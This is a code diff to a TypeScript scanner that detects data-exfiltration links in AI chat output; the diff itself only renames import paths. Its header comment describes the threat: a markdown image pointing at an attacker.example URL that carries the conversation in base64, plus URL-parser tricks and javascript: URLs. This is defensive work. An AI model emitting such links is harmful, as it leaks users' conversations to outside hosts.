@@ -2,7 +2,7 @@
 // `![](https://attacker.example/p.png?d=<the conversation, base64>)`; the chat UI renders the image and
 // the browser sends the data with no click at all. Links need a click but carry data the same way, and
 // `javascript:` / HTML `data:` URLs run code. Every destination a renderer could fetch is extracted
-// (links/extract.ts), parsed with the WHATWG URL parser (the one browsers use, so `https:\\evil.io`,
+// (exfil-links/extract.ts), parsed with the WHATWG URL parser (the one browsers use, so `https:\\evil.io`,
 // `//evil.io` and IDN tricks resolve as they would in the client), and checked against the host allowlist.
 //
 // Scores (the policy maps them to actions; the span is the URL alone so `redact` can cut just the URL):
@@ -18,17 +18,23 @@
 //         data: images, schemes browsers do not fetch (mailto:, tel:)
 import { z } from 'zod';
 import type { Scanner, ScannerFinding } from '../core/types.js';
-import { dataSignals, type DataSignalOptions } from './links/data-signals.js';
+import { dataSignals, type DataSignalOptions } from './exfil-links/data-signals.js';
 import {
   DEFAULT_MAX_LINKS,
   extractLinks,
   MAX_URL_LENGTH,
   type ExtractedLink,
   type LinkKind,
-} from './links/extract.js';
-import { compileAllowlist, EMPTY_ALLOWLIST, hostInfo, isAllowedHost, type Allowlist } from './links/host.js';
+} from './exfil-links/extract.js';
+import {
+  compileAllowlist,
+  EMPTY_ALLOWLIST,
+  hostInfo,
+  isAllowedHost,
+  type Allowlist,
+} from './exfil-links/host.js';
 
-export { extractLinks, type ExtractedLink, type LinkKind } from './links/extract.js';
+export { extractLinks, type ExtractedLink, type LinkKind } from './exfil-links/extract.js';
 
 export interface ExfilLinksOptions extends DataSignalOptions {
   /** Registrable domains (with subdomains), exact hosts, or `*.host` wildcards. Default: none. */
